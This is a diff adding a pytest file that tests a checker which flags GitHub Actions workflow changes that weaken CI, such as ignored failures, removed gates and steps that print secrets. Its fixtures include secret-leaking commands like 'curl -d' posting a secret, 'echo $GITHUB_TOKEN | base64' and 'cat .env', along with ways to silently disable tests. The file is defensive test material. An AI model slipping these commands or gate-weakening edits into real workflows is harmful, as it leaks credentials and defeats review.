@@ -1,0 +1,132 @@
+"""A workflow that is weaker than it was is named: ignored failures, gates that no longer run, secrets that are printed."""
+
+import pytest
+
+from ci import workflows
+
+CI = """\
+name: ci
+on:
+  pull_request:
+  push:
+    branches: [main]
+permissions: {}
+jobs:
+  check:
+    name: format
+    runs-on: ubuntu-24.04
+    timeout-minutes: 30
+    steps:
+      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
+        with:
+          fetch-depth: 0
+      - run: make check
+        env:
+          BASE: ${{ github.event.before }}
+  test:
+    name: tests with the coverage gate
+    runs-on: ubuntu-24.04
+    steps:
+      - run: make test
+  model:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: make review
+      - run: make test-model
+  security:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: make audit
+  pass:
+    needs: [check, test, model, security]
+    if: always()
+    runs-on: ubuntu-24.04
+    steps:
+      - run: make pass
+        env:
+          RESULTS: ${{ join(needs.*.result, ' ') }}
+"""
+NEEDS = "needs: [check, test, model, security]"
+
+
+def weakened(old: str, new: str, text: str = CI) -> list[str]:
+    assert old in text
+    return workflows.weakened(text, text.replace(old, new, 1))
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "says"),
+    [
+        ("- run: make test\n", "- run: make test\n        continue-on-error: true\n", "continue-on-error lets it fail"),
+        ("  test:\n", "  test:\n    continue-on-error: true\n", "job test: continue-on-error"),
+        ("  test:\n", "  test:\n    if: false\n", "no longer: the job test"),
+        ("- run: make test\n", "- run: make test\n        if: github.ref == 'x'\n", "no longer: job test runs make test"),
+        ("- run: make test\n", "- run: make test || true\n", "ignores a failure with ||"),
+        ("- run: make test\n", "- run: 'make test || :'\n", "ignores a failure with ||"),
+        ("- run: make test\n", "- run: make test; exit 0\n", "ends with success"),
+        ("- run: make test\n", "- run: |\n          set +e\n          make test\n", "set +e"),
+        ("- run: make test\n", "- run: make test | tee log\n", "loses the result of make in a pipe"),
+        ("- run: make test\n", "- run: make -k test\n", "an option that hides failures"),
+        ("- run: make test\n", "- run: make test &\n", "in the background"),
+        ("- run: make test\n", "- run: if make test; then echo good; fi\n", "for a condition"),
+        ("- run: make test\n", "- run: make test ONLY=tests/core\n", "no longer: job test runs make test"),
+        ("- run: make test\n", "- run: make test\n        env:\n          PYTEST_ADDOPTS: -k core\n", "PYTEST_ADDOPTS changes"),
+        ("- run: make test\n", "- run: make test\n        shell: bash {0}\n", "may go on after a failure"),
+        ("permissions: {}", "permissions: {}\ndefaults:\n  run:\n    shell: bash +e {0}", "may go on after a failure"),
+        ("      - run: make test-model\n", "", "no longer: job model runs make test-model"),
+        (NEEDS, "needs: [check, model, security]", "no longer: job pass needs test"),
+        (NEEDS, "needs: [check, model, security]", "job test is not in the `needs` of `pass`"),
+        ("    if: always()\n", "", "no longer: the job pass if always()"),
+        ("join(needs.*.result, ' ')", "'success'", "no longer: job pass gives RESULTS"),
+        ("  pull_request:\n", "", "no longer: the trigger pull_request"),
+        ("  pull_request:\n", "  pull_request:\n    paths-ignore: ['**']\n", "no longer: the trigger pull_request"),
+        ("          fetch-depth: 0\n", "", "no longer: job check fetches the history"),
+        ("- run: make audit\n", "- run: env | sort\n      - run: make audit\n", "prints the environment"),
+        ("- run: make audit\n", "- run: printenv\n      - run: make audit\n", "prints the environment"),
+        ("- run: make audit\n", "- run: set -x; make audit\n", "xtrace"),
+        ("- run: make audit\n", "- run: echo $GITHUB_TOKEN | base64\n      - run: make audit\n", "prints a secret"),
+        ("- run: make audit\n", "- run: curl -d '${{ secrets.KEY }}' x\n      - run: make audit\n", "in its text"),
+        ("- run: make audit\n", "- run: make audit\n        env:\n          ALL: ${{ toJSON(secrets) }}\n", "a whole context"),
+        ("- run: make audit\n", "- run: cat .env\n      - run: make audit\n", "prints .env"),
+        ("- run: make audit\n", "- run: python -c 'import os; print(os.environ)'\n      - run: make audit\n", "prints the env"),
+    ],
+)  # fmt: skip
+def test_a_weaker_workflow_is_named(old: str, new: str, says: str) -> None:
+    found = weakened(old, new)
+    assert any(says in line for line in found), found
+
+
+def test_a_job_that_nothing_waits_for_is_named() -> None:
+    extra = "  extra:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: make bench\n  pass:"
+    assert weakened("  pass:", extra) == ["job extra is not in the `needs` of `pass`"]
+    assert workflows.weakened(CI, None) == ["it is gone"]
+    assert workflows.weakened(CI, "a: [") and workflows.weakened(CI, "- 1")
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@1111111111111111111111111111111111111111 # v8.0.0"),
+        ("timeout-minutes: 30", "timeout-minutes: 60"),
+        ("- run: make test\n", "- run: make test\n        env:\n          SOURCE_URI: ${{ vars.SOURCE_URI }}\n"),
+        ("- run: make test\n", "- run: make test\n      - run: env A=1 make bench && set -euo pipefail\n"),
+        ("name: tests with the coverage gate", "name: tests"),
+    ],
+)
+def test_a_change_that_weakens_nothing_is_no_finding(old: str, new: str) -> None:
+    assert weakened(old, new) == []
+
+
+def test_what_was_there_before_is_no_finding() -> None:
+    """An owner's own workflow may ignore failures, as long as a change does not add one."""
+    mine = "on: push\njobs:\n  mine:\n    steps:\n      - run: make docs || true\n      - run: make test\n"
+    assert workflows.weakened(mine, f"{mine}      - run: make more\n") == []
+    assert workflows.weakened(None, mine) == ["job mine, step make docs || true: ignores a failure with ||"]
+    assert workflows.weakened(mine, mine.replace("on: push", "on: [push, pull_request]")) == []
+
+
+def test_a_script_that_prints_secrets_is_named() -> None:
+    assert workflows.printed('hello:\n\t@env | sort\n\t@test -n "$$TOKEN"\n\t# env\n\tenv A=1 run\n') == {
+        "prints the environment: env | sort"
+    }
+    assert not workflows.printed('make x TOKEN="$TOKEN"\nset -e\nexport A=1\nprintf "%s" "$NAME"\n')
